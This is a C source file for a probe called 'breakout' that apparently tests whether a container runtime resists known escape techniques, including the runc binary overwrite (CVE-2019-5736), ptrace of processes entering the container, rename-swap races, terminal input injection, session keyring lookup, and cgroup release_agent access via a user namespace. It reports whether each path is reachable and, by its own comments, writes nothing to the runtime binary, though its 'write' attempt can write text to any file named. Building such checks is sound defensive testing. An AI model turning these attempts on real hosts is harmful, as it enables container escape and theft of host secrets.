/* What an attacker inside a container tries against the runtime that made it or enters it, one attempt a run: `breakout NAME
 * [ARG...]`. "REACHED" says that the way out is open; otherwise the kernel's reason is printed. Nothing is ever written to what was
 * reached. Some names are no attempts but what attempts are made with: a key to be stolen, names that are exchanged without end. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { PATH = 512 };

static int say(long result)
{
    puts(result >= 0 ? "REACHED" : strerror(errno));
    return 0;
}

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static void rest(void) { nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL); }

/* --- the runtime's own program (CVE-2019-5736) ------------------------------------------------------------------------------- */

/* Opened while it runs, or negative: a program that is none of the container's. */
static int foreign_program(int pid)
{
    char path[PATH];
    struct stat mine, theirs, shell;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0 || fstat(fd, &theirs) < 0 || stat("/proc/self/exe", &mine) < 0 || stat("/bin/busybox", &shell) < 0)
        return -1;
    if (theirs.st_ino != mine.st_ino && theirs.st_ino != shell.st_ino)
        return fd;
    close(fd);
    return -1;
}

/* `overwrite`: waits for the runtime to run in here, and opens its file for writing once it does not run any more. */
static int overwrite(char **arg)
{
    (void)arg;
    int fd = -1, pid = 0;
    puts("ready");
    fflush(stdout);
    for (double end = now() + 60; fd < 0 && now() < end; rest()) {
        DIR *dir = opendir("/proc");
        for (struct dirent *entry; fd < 0 && (entry = readdir(dir));)
            if ((pid = atoi(entry->d_name)) > 0)
                fd = foreign_program(pid);
        closedir(dir);
    }
    if (fd < 0)
        return puts("not seen");
    struct statvfs where;
    printf("seen on a %s mount\n", fstatvfs(fd, &where) == 0 && where.f_flag & ST_RDONLY ? "read-only" : "writable");
    fflush(stdout);
    if (pid != 1)
        kill(pid, SIGKILL);
    char path[PATH];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int opened = -1;
    for (double end = now() + 1; opened < 0 && now() < end; rest())
        if ((opened = open(path, O_WRONLY)) < 0 && errno != ETXTBSY)
            break;
    return say(opened);
}

/* `readonly FILE`: on a mount that is? */
static int readonly(char **arg)
{
    struct statvfs where;
    puts(statvfs(arg[0], &where) < 0 ? strerror(errno) : where.f_flag & ST_RDONLY ? "read-only" : "REACHED");
    return 0;
}

/* --- a process on its way in (CVE-2016-9962) --------------------------------------------------------------------------------- */

static long look_into(const char *pid)
{
    static const char *const places[] = {"mem", "environ", "maps", "exe", "cwd", "root", "fd/0", "fd/3"};
    char path[PATH];
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, places[i]);
        if (open(path, O_RDONLY | O_NONBLOCK) >= 0) {
            printf("%s: ", path);
            return 0;
        }
    }
    return ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL);
}

/* `trace PID` */
static int trace(char **arg) { return say(look_into(arg[0])); }

/* Directories that a process has open: from any of them a way leads up. */
static int directories_of(int pid)
{
    char path[PATH];
    struct stat status;
    int count = 0;
    for (int fd = 0; fd < 64; fd++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        count += stat(path, &status) == 0 && S_ISDIR(status.st_mode);
    }
    return count;
}

/* `catch STOP SECRET`: until the file STOP is there, takes hold of every process that comes, and counts those that are still the
 * runtime, the directories these have open, and how often the host's file SECRET was below root or directory of one. */
static int catch_comers(char **arg)
{
    static const char *const ways[] = {"root", "cwd/../../../../../.."};
    long caught = 0, tries = 0, directories = 0, reached = 0;
    char path[PATH];
    puts("ready");
    fflush(stdout);
    for (int newest = getpid(); access(arg[0], F_OK) < 0;)
        for (int pid = newest + 1, end = newest + 8; pid < end; pid++, tries++) {
            for (int way = 0; way < 2; way++) {
                snprintf(path, sizeof path, "/proc/%d/%s/%s", pid, ways[way], arg[1]);
                reached += access(path, F_OK) == 0;
            }
            int held = ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0, there = held || errno == EPERM;
            if (held) {
                ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
                waitpid(pid, NULL, __WALL);
                int fd = foreign_program(pid);
                caught += fd >= 0;
                directories += fd >= 0 ? directories_of(pid) : 0;
                close(fd);
                ptrace(PTRACE_DETACH, pid, NULL, NULL);
            }
            if (there && (held || pid > newest + 1)) /* who refuses is asked again, until the next one comes */
                newest = held ? pid : pid - 1;
        }
    printf("%ld caught, %ld directories, %ld secrets, %ld tries\n", caught, directories, reached, tries);
    return 0;
}

/* --- what is open ------------------------------------------------------------------------------------------------------------ */

/* Whose null device it is, since its mode is its owner's to change. */
static const char *whose(const char *path)
{
    struct stat status, null;
    if (stat(path, &status) < 0 || stat("/dev/null", &null) < 0 || !S_ISCHR(status.st_mode) || status.st_rdev != null.st_rdev)
        return "";
    return status.st_dev == null.st_dev && status.st_ino == null.st_ino ? "" : " of the host";
}

static void print_link(const char *kind, const char *pid, const char *name)
{
    char path[PATH], target[PATH];
    snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
    ssize_t len = readlink(path, target, sizeof target - 1);
    printf("%s %s %s %.*s%s\n", kind, pid, name, len < 0 ? 1 : (int)len, len < 0 ? "?" : target, whose(path));
}

/* `inventory`: descriptors, directories and environment of each process, and the mounts. */
static int inventory(char **arg)
{
    (void)arg;
    DIR *dir = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(dir));) {
        char path[PATH], text[4096];
        if (atoi(entry->d_name) <= 0)
            continue;
        print_link("place", entry->d_name, "cwd");
        print_link("place", entry->d_name, "root");
        snprintf(path, sizeof path, "/proc/%.32s/environ", entry->d_name);
        int fd = open(path, O_RDONLY);
        ssize_t len = read(fd, text, sizeof text - 1);
        close(fd);
        for (char *at = text; len > 0 && at < text + len; at += strlen(at) + 1)
            printf("environ %s %s\n", entry->d_name, at);
        snprintf(path, sizeof path, "/proc/%.32s/fd", entry->d_name);
        int own = atoi(entry->d_name) == getpid();
        DIR *fds = opendir(path);
        for (struct dirent *one; fds && (one = readdir(fds));)
            if (*one->d_name != '.' && !(own && (atoi(one->d_name) == dirfd(fds) || atoi(one->d_name) == dirfd(dir)))) {
                snprintf(path, sizeof path, "fd/%.32s", one->d_name);
                print_link("open", entry->d_name, path);
            }
        closedir(fds);
    }
    closedir(dir);
    FILE *mounts = fopen("/proc/self/mountinfo", "r");
    for (char line[4096]; fgets(line, sizeof line, mounts);)
        printf("mount %s", line);
    fclose(mounts);
    return 0;
}

/* --- exchanged names (CVE-2021-30465 and its kin) ---------------------------------------------------------------------------- */

/* `swap STOP A B [A B]...`: exchanges each pair, over and over, until the file STOP is there. */
static int swap(char **arg)
{
    long count = 0;
    puts("ready");
    fflush(stdout);
    while (access(arg[0], F_OK) < 0)
        for (char **pair = arg + 1; pair[0] && pair[1]; pair += 2)
            count += renameat2(AT_FDCWD, pair[0], AT_FDCWD, pair[1], RENAME_EXCHANGE) == 0;
    printf("%ld exchanges\n", count);
    return 0;
}

/* --- the caller's terminal and keys ------------------------------------------------------------------------------------------ */

/* `type`: puts a character into the input of the terminal on stdin, as who leads its session or would like to. */
static int type(char **arg)
{
    (void)arg;
    if (ioctl(0, TIOCSTI, " ") == 0)
        return say(0);
    int why = errno;
    if (fork() == 0) {
        setsid();
        ioctl(0, TIOCSCTTY, 0);
        _exit(ioctl(0, TIOCSTI, " ") == 0 ? 0 : 1);
    }
    int status;
    wait(&status);
    errno = why;
    return say(WEXITSTATUS(status) == 0 ? 0 : -1);
}

/* `keyring NAME`: a key of whoever called the runtime. */
static int keyring(char **arg) { return say(syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", arg[0], 0)); }

/* `keyed NAME COMMAND...`: the command, with such a key. */
static int keyed(char **arg)
{
    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
        syscall(SYS_add_key, "user", arg[0], "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0)
        return say(-1);
    execvp(arg[1], arg + 1);
    return say(-1);
}

/* --- privileges -------------------------------------------------------------------------------------------------------------- */

static int privileges(char **arg)
{
    struct __user_cap_header_struct header = {.version = _LINUX_CAPABILITY_VERSION_3};
    struct __user_cap_data_struct data[2];
    (void)arg;
    syscall(SYS_capget, &header, data);
    printf("uid %u capabilities %08x%08x inheritable %08x%08x\n", geteuid(), data[1].effective, data[0].effective,
           data[1].inheritable, data[0].inheritable);
    return 0;
}

/* --- by way of a user namespace of one's own --------------------------------------------------------------------------------- */

static void map_self(unsigned uid, unsigned gid)
{
    char text[64];
    const struct {
        const char *file;
        unsigned id;
    } maps[] = {{"/proc/self/setgroups", 0}, {"/proc/self/uid_map", uid}, {"/proc/self/gid_map", gid}};
    for (size_t i = 0; i < 3; i++) {
        snprintf(text, sizeof text, i ? "0 %u 1" : "deny", maps[i].id);
        int fd = open(maps[i].file, O_WRONLY);
        if (write(fd, text, strlen(text)) < 0)
            perror(maps[i].file);
        close(fd);
    }
}

/* `fresh TYPE [DATA]`: a new instance of a file system, which nobody has masked anything in; with "cgroup" its release agent. */
static int fresh(char **arg)
{
    unsigned uid = getuid(), gid = getgid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWCGROUP) < 0)
        return say(-1);
    map_self(uid, gid);
    pid_t pid = fork();
    if (pid == 0) {
        long rc = mount("x", "/tmp", arg[0], MS_NOSUID | MS_NODEV | MS_NOEXEC | MS_RDONLY, arg[1]);
        if (rc == 0 && strcmp(arg[0], "cgroup") == 0)
            rc = open("/tmp/release_agent", O_RDONLY);
        _exit(rc < 0 ? errno : 0);
    }
    int status;
    waitpid(pid, &status, 0);
    errno = WEXITSTATUS(status);
    return say(errno ? -1 : 0);
}

/* `write FILE [TEXT]`: opened for writing; TEXT is written when given. */
static int write_file(char **arg)
{
    int fd = open(arg[0], O_WRONLY);
    return say(fd >= 0 && arg[1] ? write(fd, arg[1], strlen(arg[1])) : fd);
}

static const struct {
    const char *name;
    int (*act)(char **arg);
    int arguments;
} attempts[] = {
    {"overwrite", overwrite, 0}, {"trace", trace, 1},      {"catch", catch_comers, 2},
    {"inventory", inventory, 0}, {"swap", swap, 3},        {"type", type, 0},
    {"keyring", keyring, 1},     {"keyed", keyed, 2},      {"privileges", privileges, 0},
    {"fresh", fresh, 1},         {"write", write_file, 1}, {"readonly", readonly, 1},
};

int main(int argc, char **argv)
{
    for (size_t i = 0; argc > 1 && i < sizeof attempts / sizeof *attempts; i++)
        if (!strcmp(attempts[i].name, argv[1]) && argc - 2 >= attempts[i].arguments)
            return attempts[i].act(argv + 2) < 0;
    fprintf(stderr, "breakout: there is no attempt %s, or it wants more arguments\n", argc > 1 ? argv[1] : "without a name");
    return 2;
}
